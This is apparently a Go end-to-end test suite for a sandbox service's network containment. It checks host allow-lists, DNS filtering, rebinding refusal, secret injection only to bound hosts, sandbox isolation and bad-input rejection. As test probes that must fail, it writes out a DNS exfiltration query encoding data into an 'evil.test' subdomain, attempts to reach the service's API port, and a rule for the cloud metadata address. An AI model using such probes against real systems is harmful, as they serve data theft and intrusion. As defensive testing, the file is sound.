package e2e

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// netService starts a service whose proxy knows the test's outside hosts
// by name (all on the host's loopback) and asks the test's DNS recorder
// for every other name, trusting the test's CA for HTTPS upstream.
type netService struct {
	*service
	plain, tls *recorder
	dns        *dnsRecorder
	ca         *testCA
}

func startNetService(t *testing.T) *netService {
	t.Helper()
	requireSandboxes(t)
	ca := newTestCA(t)
	n := &netService{ca: ca, dns: newDNSRecorder(t)}
	n.plain = newRecorder(t, nil)
	n.tls = newRecorder(t, ca.leaf(t, "tls.test", "secret.test"))
	var args []string
	for _, name := range []string{"allowed.test", "other.test", "plain.test", "tls.test", "secret.test"} {
		args = append(args, "--egress-resolve", name+"=127.0.0.1")
	}
	args = append(args, "--egress-dns", n.dns.addr())
	n.service = startServiceEnv(t, []string{"SSL_CERT_FILE=" + ca.file}, args...)
	return n
}

// sh runs script in sandbox id and returns its result.
func (s *service) sh(id, script string) result {
	s.t.Helper()
	return s.run("sandbox", "exec", id, "--", "sh", "-c", script)
}

// noProxy unsets the proxy variables, for programs that ignore them;
// viaProxy sets the lowercase ones busybox wget reads (the service sets
// only HTTP_PROXY and HTTPS_PROXY: busybox wget has no no_proxy, so it
// would send even localhost to the proxy), to test the explicit proxy.
const (
	noProxy  = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY no_proxy NO_PROXY; "
	viaProxy = `export http_proxy="$HTTP_PROXY" https_proxy="$HTTPS_PROXY"; `
)

// egressEntries reads a sandbox's egress log through the CLI.
func (s *service) egressEntries(id string) []map[string]any {
	s.t.Helper()
	out := s.must("sandbox", "egress", id, "--json")
	var entries []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if line == "" {
			continue
		}
		var e map[string]any
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			s.t.Fatalf("egress --json line %q: %v", line, err)
		}
		entries = append(entries, e)
	}
	return entries
}

// findEntry returns the first egress entry whose fields hold every given
// value (compared as text), or nil.
func findEntry(entries []map[string]any, want map[string]string) map[string]any {
	for _, e := range entries {
		ok := true
		for k, v := range want {
			got, _ := json.Marshal(e[k])
			if strings.Trim(string(got), `"`) != v {
				ok = false
				break
			}
		}
		if ok {
			return e
		}
	}
	return nil
}

// TestNetworkEgress: in egress mode a sandbox reaches the hosts it lists
// and nothing else, whether a program uses the proxy or not; names it may
// not reach are not even resolved; secrets are put in on the way out to
// their hosts only; every decision is in its egress log; rules change on
// a running sandbox and close what they no longer allow.
func TestNetworkEgress(t *testing.T) {
	n := startNetService(t)
	const secretValue = "s3cr3t-Value-e2e-0042"
	if r := n.runEnv(nil, "secret", "set", "API_TOKEN"); r.code == 0 {
		t.Fatalf("secret set with no value on stdin succeeded: %s", r)
	}
	n.setSecret("API_TOKEN", secretValue)
	p := n.plain.port()
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			n.t = t
			id := n.create("--backend", backend, "--allow-host", "allowed.test", "--allow-host", "plain.test:"+p,
				"--allow-host", "allowed-dns.test", "--allow-host", "rebind.test", "--secret", "API_TOKEN=allowed.test")
			path := "/" + backend

			// Through the proxy variables, and without them.
			if r := n.sh(id, viaProxy+"wget -q -O - http://allowed.test:"+p+path+"/proxied"); r.code != 0 || !strings.Contains(r.stdout, "reached") {
				t.Fatalf("allowed host through the proxy: %s", r)
			}
			if r := n.sh(id, noProxy+"wget -q -O - http://allowed.test:"+p+path+"/transparent"); r.code != 0 || !strings.Contains(r.stdout, "reached") {
				t.Fatalf("allowed host without proxy variables: %s", r)
			}
			if len(n.plain.hits(path+"/proxied")) != 1 || len(n.plain.hits(path+"/transparent")) != 1 {
				t.Fatalf("the allowed host did not get both requests: %s", n.plain.all())
			}

			// A host not listed, by name or by address, with and without
			// the proxy: nothing arrives.
			for _, script := range []string{
				viaProxy + "wget -q -T 5 -O - http://other.test:" + p + path + "/denied",
				noProxy + "wget -q -T 5 -O - http://other.test:" + p + path + "/denied",
				viaProxy + "unset no_proxy NO_PROXY; wget -q -T 5 -O - http://127.0.0.1:" + p + path + "/denied",
				noProxy + "wget -q -T 5 -O - --header 'Host: allowed.test' http://other.test:" + p + path + "/denied",
			} {
				if r := n.sh(id, script); r.code == 0 {
					t.Errorf("%s: succeeded: %s", script, r)
				}
			}
			if h := n.plain.hits(path + "/denied"); len(h) != 0 {
				t.Errorf("denied requests reached the host: %+v", h)
			}

			// DNS: allowed names are resolved (upstream is asked), others
			// are NXDOMAIN and never leave the host, whichever server the
			// program asks.
			// (The answer is a synthetic address that stands for the name.)
			if r := n.sh(id, "nslookup allowed-dns.test"); r.code != 0 || !strings.Contains(r.stdout, "198.1") {
				t.Errorf("nslookup of an allowed name: %s", r)
			}
			if !n.dns.asked("allowed-dns.test") {
				t.Error("the upstream DNS server was never asked for an allowed name")
			}
			leak := "leak-" + backend + "-c2VjcmV0.evil.test"
			for _, script := range []string{"nslookup " + leak, "nslookup " + leak + " 8.8.8.8"} {
				if r := n.sh(id, script); r.code == 0 || strings.Contains(r.stdout, "198.1") {
					t.Errorf("%s answered: %s", script, r)
				}
			}
			if n.dns.asked(leak) {
				t.Errorf("a query for unlisted %s left the host", leak)
			}
			// An allowed name the upstream resolves to loopback (a
			// rebinding attack) is refused, with and without the proxy
			// variables: only the operator's names may.
			if r := n.sh(id, viaProxy+"wget -q -T 5 -O - http://rebind.test:"+p+path+"/rebind; "+noProxy+"wget -q -T 5 -O - http://rebind.test:"+p+path+"/rebind"); r.code == 0 {
				t.Errorf("a name resolving to loopback was reached: %s", r)
			}
			if h := n.plain.hits(path + "/rebind"); len(h) != 0 {
				t.Errorf("the rebinding request reached the host: %+v", h)
			}

			// Secrets: the sandbox holds a placeholder; the allowed host
			// gets the value; another host gets the placeholder.
			r := n.sh(id, `echo "$API_TOKEN"`)
			placeholder := strings.TrimSpace(r.stdout)
			if placeholder == "" || strings.Contains(placeholder, secretValue) {
				t.Fatalf("the sandbox's API_TOKEN is %q", placeholder)
			}
			if r := n.sh(id, `wget -q -O - --header "Authorization: Bearer $API_TOKEN" "http://allowed.test:`+p+path+`/auth?key=$API_TOKEN"`); r.code != 0 {
				t.Fatalf("request with the secret: %s", r)
			}
			h := n.plain.hits(path + "/auth")
			if len(h) != 1 || h[0].Header.Get("Authorization") != "Bearer "+secretValue || !strings.Contains(h[0].Path, secretValue) {
				t.Fatalf("the bound host got %+v, want the secret in the header and the query", h)
			}
			if r := n.sh(id, `wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://plain.test:`+p+path+`/unbound`); r.code != 0 {
				t.Fatalf("request to an unbound host: %s", r)
			}
			if h := n.plain.hits(path + "/unbound"); len(h) != 1 || strings.Contains(h[0].Header.Get("Authorization"), secretValue) ||
				h[0].Header.Get("Authorization") != "Bearer "+placeholder {
				t.Fatalf("an unbound host got %+v, want the placeholder untouched", h)
			}

			// The egress log has the decisions, with their rules.
			entries := n.egressEntries(id)
			if findEntry(entries, map[string]string{"host": "allowed.test", "allowed": "true"}) == nil ||
				findEntry(entries, map[string]string{"host": "other.test", "allowed": "false"}) == nil {
				t.Errorf("egress log lacks the allowed or the denied connection:\n%v", entries)
			}
			if e := findEntry(entries, map[string]string{"host": "plain.test", "proto": "http"}); e == nil || !strings.Contains(e["note"].(string), "API_TOKEN") {
				t.Errorf("egress log does not note the placeholder sent to an unbound host: %v", e)
			}
			if out := n.must("sandbox", "egress", id, "--json"); strings.Contains(out, secretValue) {
				t.Error("the egress log holds the secret's value")
			}

			// Rules change while it runs: a download in progress from a
			// host that is then dropped is closed.
			n.must("sandbox", "exec", "--detach", id, "--", "sh", "-c", "wget -q -O /tmp/slow http://plain.test:"+p+"/slow")
			eventually(t, 10*time.Second, "the slow download to start", func() (bool, string) {
				return len(n.plain.hits("/slow")) > 0, ""
			})
			n.must("sandbox", "network", id, "--allow-host", "other.test:"+p)
			select {
			case <-n.plain.slowDone():
			case <-time.After(15 * time.Second):
				t.Error("a connection to a host the new rules deny stayed open")
			}
			if r := n.sh(id, "wget -q -T 5 -O - http://other.test:"+p+path+"/now-allowed"); r.code != 0 {
				t.Errorf("a host the new rules allow: %s", r)
			}
			if r := n.sh(id, "wget -q -T 5 -O - http://plain.test:"+p+path+"/now-denied"); r.code == 0 {
				t.Errorf("a host the new rules deny: %s", r)
			}
			n.plain.resetSlow()
			n.must("sandbox", "rm", id)
		})
	}
}

// setSecret stores a secret through the CLI, its value on stdin.
func (s *service) setSecret(name, value string) {
	s.t.Helper()
	r := s.runStdin(value+"\n", "secret", "set", name)
	if r.code != 0 {
		s.t.Fatalf("secret set %s: %s", name, r)
	}
}

// TestNetworkContainment: what a sandbox must never reach, on each
// backend — the service's own API port (even with the admin's prefix that
// covers loopback), another sandbox, anything at all under --network
// none; and a --network open sandbox reaches public names but not the
// host's reserved ranges.
func TestNetworkContainment(t *testing.T) {
	n := startNetService(t)
	p := n.plain.port()
	_, apiPort, _ := strings.Cut(n.addr, ":")
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			n.t = t
			// The admin allows loopback; the service's own port stays out.
			wide := n.create("--backend", backend, "--allow-cidr", "127.0.0.1/32")
			if r := n.sh(wide, viaProxy+"unset no_proxy NO_PROXY; wget -q -T 5 -O - http://127.0.0.1:"+p+"/cidr"); r.code != 0 {
				t.Errorf("an address the admin's prefix allows: %s", r)
			}
			for _, script := range []string{
				viaProxy + "unset no_proxy NO_PROXY; wget -q -T 5 -O - http://127.0.0.1:" + apiPort + "/healthz",
				noProxy + "wget -q -T 5 -O - http://127.0.0.1:" + apiPort + "/healthz",
			} {
				if r := n.sh(wide, script); r.code == 0 {
					t.Errorf("the service's API port was reached: %s: %s", script, r)
				}
			}
			if e := findEntry(n.egressEntries(wide), map[string]string{"port": apiPort, "allowed": "false"}); e == nil {
				t.Error("the refused connection to the API port is not in the egress log")
			}

			// Sandbox to sandbox: a listener in one never hears the other.
			a := n.create("--backend", backend)
			b := n.create("--backend", backend)
			n.must("sandbox", "exec", "--detach", a, "--", "sh", "-c", "nc -l -p 8080 > /tmp/heard")
			addrA := n.sandboxAddr(a)
			if addrA == "" {
				t.Fatalf("sandbox show gives no address for %s", a)
			}
			n.sh(b, noProxy+"echo hello-from-b | nc -w 3 "+addrA+" 8080")
			n.sh(b, "echo hello-from-b | nc -w 3 "+addrA+" 8080")
			if r := n.sh(a, "cat /tmp/heard"); strings.Contains(r.stdout, "hello") {
				t.Errorf("sandbox %s heard sandbox %s", a, b)
			}
			if r := n.sh(b, "ping -c 1 -W 2 "+addrA); r.code == 0 {
				t.Errorf("ping between sandboxes: %s", r)
			}

			// ICMP and IPv6 do not leave.
			if r := n.sh(b, "ping -c 1 -W 2 "+n.sandboxGateway(b)); r.code == 0 {
				t.Errorf("ping of the gateway: %s", r)
			}
			if r := n.sh(b, "ip -6 addr show scope global"); strings.Contains(r.stdout, "inet6") {
				t.Errorf("a global IPv6 address in the sandbox: %s", r.stdout)
			}

			// --network none: loopback and nothing else.
			none := n.create("--backend", backend, "--network", "none", "--allow-host", "allowed.test")
			if r := n.sh(none, "ip -o link show"); r.code != 0 || strings.Contains(r.stdout, "eth") {
				t.Errorf("--network none has interfaces: %s", r)
			}
			if r := n.sh(none, "wget -q -T 5 -O - http://allowed.test:"+p+"/none"); r.code == 0 {
				t.Errorf("--network none reached a host: %s", r)
			}
			if h := n.plain.hits("/none"); len(h) != 0 {
				t.Errorf("--network none reached the host: %+v", h)
			}
			// It cannot be opened later: it has no interface.
			if r := n.run("sandbox", "network", none, "--network", "egress"); r.code == 0 {
				t.Errorf("a none sandbox was switched to egress: %s", r)
			}

			// --network open: public names go; the host's own ranges and
			// names that resolve into them do not.
			open := n.create("--backend", backend, "--network", "open", "--deny-host", "other.test")
			if r := n.sh(open, "wget -q -T 5 -O - http://allowed.test:"+p+"/open"); r.code != 0 {
				t.Errorf("open mode, an operator's name: %s", r)
			}
			if r := n.sh(open, "wget -q -T 5 -O - http://other.test:"+p+"/open-denied"); r.code == 0 {
				t.Errorf("open mode, a denied host: %s", r)
			}
			if r := n.sh(open, "wget -q -T 5 -O - http://anything-else.test:"+p+"/open-reserved"); r.code == 0 {
				t.Errorf("open mode reached a name resolving to loopback: %s", r)
			}
			if h := n.plain.hits("/open-"); len(h) != 0 {
				t.Errorf("open mode: refused requests arrived: %+v", h)
			}
			for _, id := range []string{wide, a, b, none, open} {
				n.must("sandbox", "rm", id)
			}
		})
	}
}

// sandboxAddr and sandboxGateway read a sandbox's address and its
// gateway from inside it.
func (s *service) sandboxAddr(id string) string {
	r := s.sh(id, "ip -4 -o addr show dev eth0 | awk '{print $4}' | cut -d/ -f1")
	return strings.TrimSpace(r.stdout)
}

func (s *service) sandboxGateway(id string) string {
	r := s.sh(id, "ip -4 route show default | awk '{print $3}'")
	return strings.TrimSpace(r.stdout)
}

// TestNetworkBadInput: every malformed rule is refused at create with
// what is wrong, and nothing is made.
func TestNetworkBadInput(t *testing.T) {
	n := startNetService(t)
	n.setSecret("KNOWN", "v")
	tenant := n.newTenant("net-bad")
	for _, c := range []struct {
		args []string
		want string
		env  []string
	}{
		{[]string{"--allow-host", "bad host"}, "host", nil},
		{[]string{"--allow-host", "a.test:70000"}, "port", nil},
		{[]string{"--allow-host", "a.test:0"}, "port", nil},
		{[]string{"--allow-host", "10.0.0.1"}, "allow-cidr", nil},
		{[]string{"--allow-cidr", "nope"}, "cidr", nil},
		{[]string{"--allow-cidr", "10.0.0.0/33"}, "cidr", nil},
		{[]string{"--network", "closed"}, "mode", nil},
		{[]string{"--secret", "KNOWN"}, "HOST", nil},
		{[]string{"--secret", "UNKNOWN=a.test"}, "not found", nil},
		{[]string{"--secret", "KNOWN=a.test:443"}, "port", nil},
		{[]string{"--network", "none", "--secret", "KNOWN=a.test"}, "none", nil},
		{[]string{"--allow-cidr", "127.0.0.0/8"}, "admin", []string{"REINS_TOKEN=" + tenant}},
		{[]string{"--allow-cidr", "169.254.169.254/32"}, "admin", []string{"REINS_TOKEN=" + tenant}},
	} {
		before := len(strings.Split(strings.TrimSpace(n.must("sandbox", "ls")), "\n"))
		r := n.runEnv(c.env, append([]string{"sandbox", "create"}, c.args...)...)
		if r.code == 0 || !strings.Contains(r.stderr, c.want) {
			t.Errorf("create %v: want a refusal naming %q, got %s", c.args, c.want, r)
		}
		if after := len(strings.Split(strings.TrimSpace(n.must("sandbox", "ls")), "\n")); after != before {
			t.Errorf("create %v: the listing went from %d to %d lines", c.args, before, after)
		}
	}
	// A tenant's secret is its own: the admin's KNOWN is not the tenant's.
	if r := n.runEnv([]string{"REINS_TOKEN=" + tenant}, "sandbox", "create", "--secret", "KNOWN=a.test"); r.code == 0 {
		t.Errorf("a tenant used the admin's secret: %s", r)
	}
	big := strings.Repeat("x", 64<<10)
	if r := n.runStdin(big, "secret", "set", "BIG"); r.code == 0 || !strings.Contains(r.stderr, "KiB") {
		t.Errorf("a 64 KiB secret: %s", r)
	}
}
